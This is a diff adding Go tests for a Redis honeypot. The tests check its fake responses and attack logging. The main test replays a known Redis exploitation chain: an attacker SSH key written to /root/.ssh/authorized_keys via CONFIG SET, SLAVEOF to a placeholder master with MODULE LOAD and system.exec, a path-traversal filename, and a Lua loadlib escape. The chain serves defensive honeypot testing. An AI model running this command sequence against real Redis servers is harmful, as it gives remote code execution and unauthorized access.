@@ -0,0 +1,344 @@
+package services
+
+import (
+	"andorralee/internal/config"
+	"andorralee/internal/repositories"
+	"bufio"
+	"fmt"
+	"io"
+	"net"
+	"reflect"
+	"sort"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+)
+
+// startTestRedisHoneypot 在随机端口启动Redis蜜罐
+func startTestRedisHoneypot(t *testing.T, password string) *RedisHoneypot {
+	t.Helper()
+	t.Setenv("REDIS_HONEYPOT_ADDR", "127.0.0.1:0")
+	t.Setenv("REDIS_HONEYPOT_PASSWORD", password)
+
+	honeypot := &RedisHoneypot{}
+	if err := honeypot.Start(); err != nil {
+		t.Fatalf("启动Redis蜜罐失败: %v", err)
+	}
+	t.Cleanup(honeypot.Stop)
+	return honeypot
+}
+
+// testRedisClient 测试用的RESP客户端
+type testRedisClient struct {
+	t      *testing.T
+	conn   net.Conn
+	reader *bufio.Reader
+}
+
+func dialTestRedis(t *testing.T, honeypot *RedisHoneypot) *testRedisClient {
+	t.Helper()
+	conn, err := net.Dial("tcp", honeypot.Status().Listener)
+	if err != nil {
+		t.Fatalf("连接Redis蜜罐失败: %v", err)
+	}
+	t.Cleanup(func() { conn.Close() })
+	conn.SetDeadline(time.Now().Add(5 * time.Second))
+	return &testRedisClient{t: t, conn: conn, reader: bufio.NewReader(conn)}
+}
+
+// do 发送RESP数组命令并读取响应，错误响应返回"-"开头的字符串
+func (c *testRedisClient) do(args ...string) interface{} {
+	c.t.Helper()
+	fmt.Fprintf(c.conn, "*%d\r\n", len(args))
+	for _, arg := range args {
+		fmt.Fprintf(c.conn, "$%d\r\n%s\r\n", len(arg), arg)
+	}
+	return c.read()
+}
+
+func (c *testRedisClient) read() interface{} {
+	c.t.Helper()
+	line, err := c.reader.ReadString('\n')
+	if err != nil {
+		c.t.Fatalf("读取响应失败: %v", err)
+	}
+	line = strings.TrimSuffix(line, "\r\n")
+	switch line[0] {
+	case '+', '-':
+		return line
+	case ':':
+		value, _ := strconv.ParseInt(line[1:], 10, 64)
+		return value
+	case '$':
+		size, _ := strconv.Atoi(line[1:])
+		if size < 0 {
+			return nil
+		}
+		buf := make([]byte, size+2)
+		if _, err := io.ReadFull(c.reader, buf); err != nil {
+			c.t.Fatalf("读取响应失败: %v", err)
+		}
+		return string(buf[:size])
+	case '*':
+		count, _ := strconv.Atoi(line[1:])
+		values := make([]interface{}, count)
+		for i := range values {
+			values[i] = c.read()
+		}
+		return values
+	}
+	c.t.Fatalf("无效的响应: %q", line)
+	return nil
+}
+
+// TestRedisHoneypotExploitChain 测试写SSH公钥、主从复制加载模块和Lua脚本利用链的响应，每条命令记录为攻击事件
+func TestRedisHoneypotExploitChain(t *testing.T) {
+	useSQLiteDatabase(t)
+	honeypot := startTestRedisHoneypot(t, "")
+	client := dialTestRedis(t, honeypot)
+
+	sshKey := "\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC attacker@kali\n\n"
+	for _, step := range []struct {
+		args []string
+		want interface{}
+	}{
+		{[]string{"PING"}, "+PONG"},
+		{[]string{"AUTH", "foobared"}, "-ERR Client sent AUTH, but no password is set"},
+		{[]string{"FLUSHALL"}, "+OK"},
+		{[]string{"SET", "crackit", sshKey}, "+OK"},
+		{[]string{"CONFIG", "SET", "dir", "/root/.ssh"}, "+OK"},
+		{[]string{"CONFIG", "SET", "dbfilename", "authorized_keys"}, "+OK"},
+		{[]string{"CONFIG", "SET", "dbfilename", "../../etc/passwd"}, "-ERR Invalid argument '../../etc/passwd' for CONFIG SET 'dbfilename'"},
+		{[]string{"SAVE"}, "+OK"},
+		{[]string{"CONFIG", "GET", "dir"}, []interface{}{"dir", "/root/.ssh"}},
+		{[]string{"GET", "crackit"}, sshKey},
+		{[]string{"KEYS", "*"}, []interface{}{"crackit"}},
+		{[]string{"SLAVEOF", "203.0.113.7", "21000"}, "+OK Already connected to specified master"},
+		{[]string{"MODULE", "LOAD", "./exp.so"}, "+OK"},
+		{[]string{"system.exec", "id"}, ""},
+		{[]string{"SLAVEOF", "NO", "ONE"}, "+OK"},
+		{[]string{"EVAL", "return 1", "2", "a"}, "-ERR Number of keys can't be greater than number of args"},
+		{[]string{"EVAL", `local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); return 1`, "0"}, nil},
+		{[]string{"GET"}, "-ERR wrong number of arguments for 'get' command"},
+		{[]string{"FOO", "bar"}, "-ERR unknown command `FOO`, with args beginning with: `bar`, "},
+	} {
+		if got := client.do(step.args...); !reflect.DeepEqual(got, step.want) {
+			t.Errorf("%v = %#v, want %#v", step.args, got, step.want)
+		}
+	}
+
+	info, _ := client.do("INFO").(string)
+	if !strings.Contains(info, "# Server\r\nredis_version:5.0.7\r\n") || !strings.Contains(info, "role:master") || !strings.Contains(info, "db0:keys=1,") {
+		t.Errorf("INFO内容错误: %q", info)
+	}
+	if replication, _ := client.do("INFO", "replication").(string); strings.Contains(replication, "# Server") || !strings.HasPrefix(replication, "# Replication\r\n") {
+		t.Errorf("INFO replication只应返回复制信息: %q", replication)
+	}
+
+	// 内联命令和管道
+	client.conn.Write([]byte("PING\r\nECHO \"hello world\"\r\n"))
+	if got, echo := client.read(), client.read(); got != "+PONG" || echo != "hello world" {
+		t.Errorf("内联命令响应错误: %#v %#v", got, echo)
+	}
+
+	// 命令由每个连接的记录协程批量写入，停止蜜罐后所有记录都已写入
+	honeypot.Stop()
+	var events []repositories.AttackEvent
+	config.DB.Order("id").Find(&events)
+	if len(events) != 23 {
+		t.Fatalf("应记录23个攻击事件: %d", len(events))
+	}
+	for i, want := range []struct {
+		attackType, severity, payload string
+	}{
+		{RedisAttackProbe, "medium", "PING"},
+		{RedisAttackBruteForce, "high", "AUTH foobared"},
+		{RedisAttackCommand, "low", "FLUSHALL"},
+		{RedisAttackRCE, "critical", `SET crackit "\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC attacker@kali\n\n"`},
+		{RedisAttackRCE, "critical", "CONFIG SET dir /root/.ssh"},
+		{RedisAttackRCE, "critical", "CONFIG SET dbfilename authorized_keys"},
+	} {
+		if got := events[i]; got.AttackType != want.attackType || got.Severity != want.severity || got.Payload != want.payload || got.Protocol != "redis" || got.ContainerID != RedisHoneypotContainerID {
+			t.Errorf("第%d个事件错误: %+v", i+1, got)
+		}
+	}
+	for _, i := range []int{11, 12, 13, 16} {
+		if events[i].AttackType != RedisAttackRCE || events[i].Severity != "critical" {
+			t.Errorf("利用命令应记录为RCE: %+v", events[i])
+		}
+	}
+	if events[0].SessionID != events[22].SessionID || events[0].SourceIP != "127.0.0.1" {
+		t.Errorf("同一连接的命令应属于同一会话: %+v", events[22])
+	}
+	if status := honeypot.Status(); status.Commands != 23 || status.AuthAttempts != 1 || status.Keys != 1 || status.TotalConnections != 1 {
+		t.Errorf("蜜罐计数错误: %+v", status)
+	}
+}
+
+// TestRedisHoneypotAuth 测试配置口令后的认证、ACL形式的认证、修改口令、口令记录和协议错误
+func TestRedisHoneypotAuth(t *testing.T) {
+	useSQLiteDatabase(t)
+	honeypot := startTestRedisHoneypot(t, "s3cret")
+	client := dialTestRedis(t, honeypot)
+
+	for _, step := range []struct {
+		args []string
+		want interface{}
+	}{
+		{[]string{"INFO"}, "-NOAUTH Authentication required."},
+		{[]string{"AUTH", "admin"}, "-ERR invalid password"},
+		{[]string{"AUTH", "default", "admin"}, "-WRONGPASS invalid username-password pair or user is disabled."},
+		{[]string{"AUTH", "admin", "s3cret"}, "-WRONGPASS invalid username-password pair or user is disabled."},
+		{[]string{"AUTH", "default", "s3cret", "x"}, "-ERR wrong number of arguments for 'auth' command"},
+		{[]string{"AUTH", "default", "s3cret"}, "+OK"},
+		{[]string{"AUTH", "s3cret"}, "+OK"},
+		{[]string{"DBSIZE"}, int64(0)},
+		{[]string{"SELECT", "16"}, "-ERR DB index is out of range"},
+		{[]string{"CONFIG", "SET", "requirepass", "n3w"}, "+OK"},
+		{[]string{"QUIT"}, "+OK"},
+	} {
+		if got := client.do(step.args...); !reflect.DeepEqual(got, step.want) {
+			t.Errorf("%v = %#v, want %#v", step.args, got, step.want)
+		}
+	}
+
+	// CONFIG SET修改的口令对新连接生效
+	renewed := dialTestRedis(t, honeypot)
+	for _, step := range []struct {
+		args []string
+		want interface{}
+	}{
+		{[]string{"DBSIZE"}, "-NOAUTH Authentication required."},
+		{[]string{"AUTH", "s3cret"}, "-ERR invalid password"},
+		{[]string{"AUTH", "n3w"}, "+OK"},
+	} {
+		if got := renewed.do(step.args...); !reflect.DeepEqual(got, step.want) {
+			t.Errorf("%v = %#v, want %#v", step.args, got, step.want)
+		}
+	}
+	if status := honeypot.Status(); !status.RequireAuth || status.AuthAttempts != 7 {
+		t.Errorf("蜜罐认证状态错误: %+v", status)
+	}
+
+	// 无效的批量长度返回协议错误并关闭连接
+	broken := dialTestRedis(t, honeypot)
+	broken.conn.Write([]byte("*1\r\n$abc\r\n"))
+	if got := broken.read(); got != "-ERR Protocol error: invalid bulk length" {
+		t.Errorf("协议错误响应错误: %#v", got)
+	}
+	if _, err := broken.reader.ReadByte(); err != io.EOF {
+		t.Errorf("协议错误后应关闭连接: %v", err)
+	}
+
+	// 发往Redis端口的HTTP请求直接关闭连接
+	cross := dialTestRedis(t, honeypot)
+	cross.conn.Write([]byte("POST / HTTP/1.1\r\nHost: 127.0.0.1:6379\r\n\r\n"))
+	if _, err := cross.reader.ReadByte(); err != io.EOF {
+		t.Errorf("HTTP请求应被关闭: %v", err)
+	}
+
+	honeypot.Stop()
+	logs, err := repositories.NewHeadlingAuthLogRepo(config.DB).GetByContainerID(RedisHoneypotContainerID)
+	if err != nil || len(logs) != 7 || logs[0].Protocol != "redis" || logs[0].ContainerName != "native-redis" {
+		t.Fatalf("Headling认证日志应有7条: %+v err=%v", logs, err)
+	}
+	var credentials []string
+	for _, log := range logs {
+		credentials = append(credentials, log.Username+":"+log.Password)
+	}
+	sort.Strings(credentials)
+	if want := []string{":admin", ":n3w", ":s3cret", ":s3cret", "admin:s3cret", "default:admin", "default:s3cret"}; !reflect.DeepEqual(credentials, want) {
+		t.Errorf("认证日志用户名和口令错误: %v", credentials)
+	}
+}
+
+// TestRedisHoneypotDatabases 测试SELECT切换的数据库各自独立
+func TestRedisHoneypotDatabases(t *testing.T) {
+	useSQLiteDatabase(t)
+	honeypot := startTestRedisHoneypot(t, "")
+	client := dialTestRedis(t, honeypot)
+
+	for _, step := range []struct {
+		args []string
+		want interface{}
+	}{
+		{[]string{"SET", "a", "0"}, "+OK"},
+		{[]string{"SELECT", "1"}, "+OK"},
+		{[]string{"GET", "a"}, nil},
+		{[]string{"SET", "b", "1"}, "+OK"},
+		{[]string{"KEYS", "*"}, []interface{}{"b"}},
+		{[]string{"DBSIZE"}, int64(1)},
+		{[]string{"SELECT", "0"}, "+OK"},
+		{[]string{"EXISTS", "a", "b"}, int64(1)},
+		{[]string{"FLUSHDB"}, "+OK"},
+		{[]string{"DBSIZE"}, int64(0)},
+	} {
+		if got := client.do(step.args...); !reflect.DeepEqual(got, step.want) {
+			t.Errorf("%v = %#v, want %#v", step.args, got, step.want)
+		}
+	}
+	if keyspace, _ := client.do("INFO", "keyspace").(string); keyspace != "# Keyspace\r\ndb1:keys=1,expires=0,avg_ttl=0\r\n" {
+		t.Errorf("INFO keyspace错误: %q", keyspace)
+	}
+	if status := honeypot.Status(); status.Keys != 1 || status.KeyspaceBytes != 2 {
+		t.Errorf("键空间计数错误: %+v", status)
+	}
+	if got := client.do("FLUSHALL"); got != "+OK" || honeypot.Status().Keys != 0 {
+		t.Errorf("FLUSHALL应清空所有数据库: %#v %+v", got, honeypot.Status())
+	}
+}
+
+// TestRedisKeyspaceLimit 测试键空间按总字节数限制写入
+func TestRedisKeyspaceLimit(t *testing.T) {
+	h := &RedisHoneypot{}
+	for i := range h.keyspaces {
+		h.keyspaces[i] = make(map[string]string)
+	}
+	h.keyspaceSize = redisMaxKeyspaceBytes - 10
+
+	if !h.setKey(0, "a", "123456789") || h.keyspaceSize != redisMaxKeyspaceBytes {
+		t.Fatalf("未超过上限时应写入: %d", h.keyspaceSize)
+	}
+	if h.setKey(1, "b", "1") || h.keyspaceKeys != 1 {
+		t.Errorf("超过字节上限时不应写入: %d", h.keyspaceSize)
+	}
+	if !h.setKey(0, "a", "1") || h.keyspaceSize != redisMaxKeyspaceBytes-8 {
+		t.Errorf("覆盖写入应按新旧值的差计算: %d", h.keyspaceSize)
+	}
+	h.deleteKey(0, "a")
+	if h.keyspaceKeys != 0 || h.keyspaceSize != redisMaxKeyspaceBytes-10 {
+		t.Errorf("删除后应减去键和值的大小: %d %d", h.keyspaceKeys, h.keyspaceSize)
+	}
+}
+
+// TestReadRedisCommandLimit 测试一条命令的参数合计超过字节上限时返回协议错误，不再读取后续参数
+func TestReadRedisCommandLimit(t *testing.T) {
+	count := redisMaxCommandBytes/redisMaxBulk + 1
+	var parts []io.Reader
+	parts = append(parts, strings.NewReader(fmt.Sprintf("*%d\r\n", count)))
+	for i := 0; i < count; i++ {
+		parts = append(parts,
+			strings.NewReader(fmt.Sprintf("$%d\r\n", redisMaxBulk)),
+			io.LimitReader(zeroReader{}, redisMaxBulk),
+			strings.NewReader("\r\n"))
+	}
+
+	_, err := readRedisCommand(bufio.NewReader(io.MultiReader(parts...)))
+	if err == nil || err.Error() != "too big request" {
+		t.Errorf("超过命令字节上限应返回协议错误: %v", err)
+	}
+
+	args, err := readRedisCommand(bufio.NewReader(strings.NewReader("*2\r\n$3\r\nGET\r\n$1\r\na\r\n")))
+	if err != nil || !reflect.DeepEqual(args, []string{"GET", "a"}) {
+		t.Errorf("未超过上限的命令应正常读取: %v %v", args, err)
+	}
+}
+
+// zeroReader 读取时返回无限个零字节
+type zeroReader struct{}
+
+func (zeroReader) Read(p []byte) (int, error) {
+	clear(p)
+	return len(p), nil
+}